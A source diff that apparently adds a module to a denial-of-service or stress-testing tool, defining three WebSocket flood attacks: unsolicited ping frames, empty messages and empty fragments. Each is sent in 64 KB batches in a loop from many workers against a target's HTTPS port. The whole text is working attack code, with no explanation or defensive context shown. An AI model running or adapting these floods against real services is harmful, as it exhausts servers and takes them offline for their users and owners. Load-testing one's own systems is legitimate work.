@@ -1,0 +1,28 @@
+import { type Attack, createAssault } from '../attack.ts'
+import { openWebSocket } from '../websocket.ts'
+
+/** Pings of a stranger, each of which wants a pong. */
+export const websocketPings: Attack = floodFrames(Buffer.from('898000000000', 'hex'))
+/** Messages of no bytes. */
+export const emptyMessages: Attack = floodFrames(Buffer.from('828000000000', 'hex'))
+/** A message in fragments of no bytes. */
+export const emptyFragments: Attack = floodFrames(
+  Buffer.from('008000000000', 'hex'),
+  Buffer.from('028000000000', 'hex'),
+)
+
+function floodFrames(frame: Buffer, first: Buffer = Buffer.alloc(0)): Attack {
+  const count = Math.floor((64 * 1024) / frame.length)
+  const many = Buffer.concat(Array.from({ length: count }, () => frame))
+  return (target, force) => {
+    const assault = createAssault(force)
+    return assault.everywhere(async (worker) => {
+      const socket = await openWebSocket(assault, target.httpsPort, worker)
+      if (!socket) return
+      socket.resume()
+      await assault.write(socket, first)
+      while (!assault.isOver() && (await assault.write(socket, many))) assault.seen.units += count
+      assault.leave(socket)
+    })
+  }
+}
